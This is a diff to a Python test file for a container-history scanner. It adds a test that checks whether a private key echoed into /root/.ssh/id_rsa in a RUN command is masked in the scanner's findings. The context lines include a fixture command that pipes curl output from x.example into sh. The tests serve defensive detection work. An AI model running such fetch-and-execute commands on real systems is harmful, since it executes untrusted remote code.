@@ -11,6 +11,7 @@ from moorage.scanner.checks import HistoryCheck, SettingFinding, finding_to_json
 from moorage.scanner.checks.history import build_args
 
 from .conftest import ALNUM, aws_key_pair, random_string
+from .test_secrets import rsa_pem
 
 
 @pytest.fixture(scope="module")
@@ -157,3 +158,13 @@ def test_long_commands_are_bounded(history_check: HistoryCheck) -> None:
     (finding,) = run(history_check, "RUN /bin/sh -c curl https://x.example/i | sh " + "x" * 500)
     assert len(finding.evidence) <= 200
     assert run(history_check, command) == []  # past MAX_COMMAND_CHARS: the pipe is not seen
+
+
+def test_a_private_key_echoed_in_a_command_is_masked_whole(history_check: HistoryCheck) -> None:
+    pem = rsa_pem()
+    body = [line for line in pem.splitlines() if not line.startswith("-----")]
+    command = "RUN /bin/sh -c echo '" + pem.replace("\n", "\\n") + "' > /root/.ssh/id_rsa && echo done"
+    (finding,) = run(history_check, command)
+    assert finding.rule_id == "history.secret-in-command" and "private key" in finding.message
+    assert all(line[:16] not in finding.evidence for line in body)
+    assert finding.evidence.startswith("RUN /bin/sh -c echo '********") and "id_rsa" in finding.evidence
